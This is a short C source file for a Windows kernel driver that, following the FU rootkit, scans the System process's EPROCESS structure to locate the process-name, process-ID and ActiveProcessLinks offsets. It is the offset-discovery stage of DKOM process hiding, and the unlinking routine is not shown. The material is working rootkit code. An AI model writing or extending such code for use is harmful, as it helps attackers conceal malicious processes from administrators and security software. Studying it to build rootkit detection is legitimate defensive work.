/*
 * Finding the EPROCESS offsets by scanning, as FU does: ImageFileName is where "System" sits in the
 * System process's EPROCESS (FU searches 3 pages of it from DriverEntry); UniqueProcessId is the
 * pointer-sized field holding its PID, and ActiveProcessLinks the LIST_ENTRY right after it (on
 * every NT version from 2000 to 11) — checked here by Flink->Blink pointing back.
 */
#include "dkom.h"

static ULONG FindNameOffset(PEPROCESS system)
{
    ULONG i;
    for (i = 0; i < 3 * PAGE_SIZE; i++)
        if (strncmp("System", (const char *)system + i, 6) == 0) return i;
    return 0;
}

static ULONG FindPidOffset(PEPROCESS system)
{
    HANDLE pid = PsGetCurrentProcessId();
    ULONG i;
    for (i = sizeof(PVOID); i < PAGE_SIZE; i += sizeof(PVOID)) {
        PLIST_ENTRY links = (PLIST_ENTRY)((PUCHAR)system + i + sizeof(PVOID));
        if (*(HANDLE *)((PUCHAR)system + i) != pid) continue;
        if (links->Flink != NULL && links->Flink->Blink == links && links->Blink->Flink == links) return i;
    }
    return 0;
}

BOOLEAN DkomFindOffsets(DKOM_OFFSETS *o)
{
    PEPROCESS system = PsGetCurrentProcess();
    o->ImageFileName = FindNameOffset(system);
    o->UniqueProcessId = FindPidOffset(system);
    o->ActiveProcessLinks = o->UniqueProcessId ? o->UniqueProcessId + sizeof(PVOID) : 0;
    return o->ImageFileName != 0 && o->UniqueProcessId != 0;
}
